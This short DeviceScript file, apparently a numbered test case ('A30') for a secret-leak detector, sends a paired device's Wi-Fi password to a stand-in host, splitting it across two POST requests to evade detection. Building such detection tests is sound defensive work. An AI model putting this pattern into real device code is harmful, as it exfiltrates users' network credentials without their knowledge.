// A30: split over two requests.
import { fetch } from "@devicescript/net";
import { paired } from "./lib/paired";

async function send(part: string) {
  const response = await fetch("https://cloud.example/a30", { method: "POST", body: part }); // leak: wifi.psk
  await response.close();
}

paired(async (_ssid, psk) => {
  await send(psk.slice(0, 9));
  await send(psk.slice(9));
});
